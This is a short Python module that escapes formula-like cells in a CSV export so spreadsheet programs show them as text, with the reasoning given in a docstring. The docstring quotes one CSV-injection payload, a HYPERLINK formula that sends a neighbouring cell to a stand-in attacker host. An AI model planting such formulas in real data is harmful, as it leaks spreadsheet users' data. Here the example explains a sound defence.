"""Cells of a CSV file that a spreadsheet program opens: shown as text, never evaluated.

Excel, LibreOffice and Google Sheets take a cell starting with ``=``, ``+``, ``-`` or ``@`` for a
formula, and a leading tab or carriage return can hide one (OWASP, "CSV Injection"). A name such as
``=HYPERLINK("http://evil.example/?"&A1, "click")`` typed at registration would otherwise run in an
organiser's spreadsheet. Such a cell is written with a leading ``'``, which the programs read as
"this is text" and do not show. Whole numbers are written as numbers: ``-50`` is the number −50 to
every program, not a formula, and a penalty must stay summable.

Only the CSV is escaped; the JSON export keeps every text exactly as stored.
"""

from __future__ import annotations

FORMULA_STARTS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"


def is_formula_like(text: str) -> bool:
    """Would a spreadsheet read this cell as (the start of) a formula?"""
    return text.startswith(FORMULA_STARTS)


def safe_cell(value: object) -> str:
    """The text of a CSV cell: None is empty, a whole number (not a bool) is its digits, and any
    other text starting with a formula character gets a leading ``'``."""
    if value is None:
        return ""
    if isinstance(value, int) and not isinstance(value, bool):
        return str(value)
    text = value if isinstance(value, str) else str(value)
    return ESCAPE + text if is_formula_like(text) else text
